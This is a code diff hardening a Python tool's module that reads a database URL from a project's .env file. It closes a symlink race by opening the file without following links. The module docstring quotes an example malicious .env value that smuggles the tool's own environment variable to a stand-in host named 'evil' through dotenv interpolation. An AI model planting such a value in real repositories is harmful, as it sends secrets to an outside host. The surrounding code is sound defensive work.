@@ -8,11 +8,15 @@ is read, never loaded into os.environ: the alert command must not inherit its se
 The .env file is the repository's, so it is read with python-dotenv's ${VAR} interpolation off: a
 cloned repo's `DB_URL=postgresql:///x?host=evil&options=${GUARD_AUDIT_URL}` must not send guard's own
 environment to a host it chose (issue 16, attack 2). And a relative env-file (the default `.env`)
-must stay in the root: a committed `.env` symlink to a file elsewhere is refused, not followed.
+must stay in the root: it is opened one component at a time from the root's descriptor with no
+link followed, and parsed from the bytes that open read. A check of the path followed by a second
+open by path let the project's owner swap a folder for a symlink in between, and root's `guard
+health` read root's own private .env elsewhere (issue 16, attack 20).
 """
 
 from __future__ import annotations
 
+import errno
 import os
 from collections.abc import Mapping
 from dataclasses import dataclass
@@ -22,6 +26,7 @@ from pathlib import Path
 from typing import TYPE_CHECKING
 
 from guard.errors import ConfigError
+from guard.printable import printable
 from guard.redact import is_credential_name
 from guard.redact import scrub
 
@@ -71,8 +76,13 @@ class DatabaseUrl:
         return scrub(text).replace(placeholder, self.masked)  # and whatever else looks like a credential
 
 
-def resolve(config: Config, root: Path, environ: Mapping[str, str] | None = None) -> DatabaseUrl:
-    """The database URL for `root`, or a ConfigError saying everywhere guard looked."""
+def resolve(
+    config: Config, root: Path, environ: Mapping[str, str] | None = None, *, root_fd: int | None = None
+) -> DatabaseUrl:
+    """The database URL for `root`, or a ConfigError saying everywhere guard looked.
+
+    `root_fd` is the root as already pinned (the daemon's); without it the root is opened here, with
+    no link followed on the way, and the env file is read through that descriptor."""
     environ = os.environ if environ is None else environ
     settings = config.health
     if settings.db_url:
@@ -80,14 +90,19 @@ def resolve(config: Config, root: Path, environ: Mapping[str, str] | None = None
     names = (settings.db_url_env,) if settings.db_url_env else DEFAULT_VARIABLES
     env_file = root / settings.env_file if settings.env_file else None
     # An absolute env-file came from a trusted layer (guard.trust drops it from an untrusted one).
-    file_values = _read_env_file(env_file, None if os.path.isabs(settings.env_file) else root)
+    if env_file is None:
+        file_values = None
+    elif os.path.isabs(settings.env_file):
+        file_values = _read_trusted_env_file(env_file)
+    else:
+        file_values = _read_env_file_beneath(root, settings.env_file, root_fd)
     # The whole environment before the file: a deployment's DATABASE_URL beats a stale DB_URL in .env.
     for name in names:
         if environ.get(name):
             return _make(environ[name], f'{name} in the environment')
     for name in names:
         if file_values and file_values.get(name):
-            found = _make(file_values[name] or '', f'{name} in {env_file}')
+            found = _make(file_values[name] or '', f'{name} in {printable(env_file)}')
             if not os.path.isabs(settings.env_file):
                 _refuse_driver_files(found)
                 found = replace(found, from_repository=True)
@@ -142,34 +157,73 @@ def _make(raw: str, source: str) -> DatabaseUrl:
     return DatabaseUrl(masked=masked, source=source, secret=raw.strip())
 
 
-def _read_env_file(path: Path | None, confined_to: Path | None) -> Mapping[str, str | None] | None:
-    """The file's variables, as written (no ${VAR} interpolation), or None when there is no file.
-    With `confined_to`, a file that resolves outside that folder is a ConfigError, never read."""
-    if path is None or not path.is_file():
+def _read_trusted_env_file(path: Path) -> Mapping[str, str | None] | None:
+    """An absolute env-file (from a trusted layer: guard.trust drops it from an untrusted one), as
+    written (no ${VAR} interpolation), or None when there is no such file."""
+    try:
+        # O_NONBLOCK: a FIFO named as the env file must not hang the check.
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
+    except (FileNotFoundError, NotADirectoryError):
         return None
-    real = os.path.realpath(path)
-    if confined_to is not None:
-        top = os.path.realpath(confined_to)
-        if os.path.commonpath((top, real)) != top:
-            raise ConfigError(
-                f"{path}: leads outside the root (to {real}): guard reads a project's env file only "
-                'inside it; set health.env-file in a trusted config to read another'
-            )
+    except OSError as e:
+        raise ConfigError(f'{printable(path)}: cannot read: {e.strerror or e}') from None
+    return _parse(fd, path)
+
+
+def _read_env_file_beneath(root: Path, rel: str, root_fd: int | None) -> Mapping[str, str | None] | None:
+    """A relative env-file, reached from the root's descriptor one component at a time with no link
+    followed (a folder swapped for a symlink fails the open itself), or None when there is none."""
+    from guard import ownfiles
+    from guard.errors import UnsafeOperationError
+
+    shown = printable(root / rel)
+    norm = os.path.normpath(rel)
+    if norm == '.' or norm == '..' or norm.startswith('../'):
+        raise ConfigError(f"{shown}: leads outside the root: {_ONLY_INSIDE}")
+    parent, _, name = norm.rpartition('/')
+    try:
+        base = os.dup(root_fd) if root_fd is not None else ownfiles.open_dir(root, private=False, owners=False)
+        try:
+            folder = ownfiles.open_dir(parent, base_fd=base, owners=False) if parent else os.dup(base)
+        finally:
+            os.close(base)
+        try:
+            fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC, dir_fd=folder)
+        finally:
+            os.close(folder)
+    except (FileNotFoundError, NotADirectoryError):
+        return None
+    except UnsafeOperationError:
+        raise ConfigError(f'{shown}: a folder on the way is a symlink: {_ONLY_INSIDE}') from None
+    except OSError as e:
+        if e.errno == errno.ELOOP:
+            raise ConfigError(f'{shown}: is a symlink: {_ONLY_INSIDE}') from None
+        raise ConfigError(f'{shown}: cannot read: {e.strerror or e}') from None
+    return _parse(fd, root / rel)
+
+
+_ONLY_INSIDE = (
+    "guard reads a project's env file only inside the root, following no link; "
+    'set health.env-file in a trusted config to read another'
+)
+
+
+def _parse(fd: int, path: Path) -> Mapping[str, str | None] | None:
+    """The variables of the open file `fd` (closed here), parsed from the bytes read through it and
+    never from a second open by path; None when it is no regular file (a folder, a FIFO)."""
     import io
     import stat
 
     from dotenv import dotenv_values
 
     try:
-        # O_NONBLOCK: a FIFO planted as .env must not hang the check; O_NOFOLLOW: what was checked is read.
-        fd = os.open(real, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
         with os.fdopen(fd, 'rb') as f:
             if not stat.S_ISREG(os.fstat(f.fileno()).st_mode):
                 return None
             text = f.read().decode('utf-8')
-        return dotenv_values(stream=io.StringIO(text), interpolate=False)
     except (OSError, UnicodeDecodeError) as e:
-        raise ConfigError(f'{path}: cannot read: {getattr(e, "strerror", None) or e}') from None
+        raise ConfigError(f'{printable(path)}: cannot read: {getattr(e, "strerror", None) or e}') from None
+    return dotenv_values(stream=io.StringIO(text), interpolate=False)
 
 
 def _userinfo_parts(raw: str, username: str) -> list[str]:
@@ -200,7 +254,7 @@ def _missing_message(names: tuple[str, ...], config: Config, env_file: Path | No
     settings_file = 'no config file' if config.source == 'defaults' else config.source
     places = 'the environment'
     if env_file is not None:
-        places += f' and in {env_file}' + ('' if file_exists else ' (no such file)')
+        places += f' and in {printable(env_file)}' + ('' if file_exists else ' (no such file)')
     return (
         f'no database URL: looked for health.db-url ({settings_file}) and for {variables} in {places}; '
         'set one, or leave "database" out of health.checks'
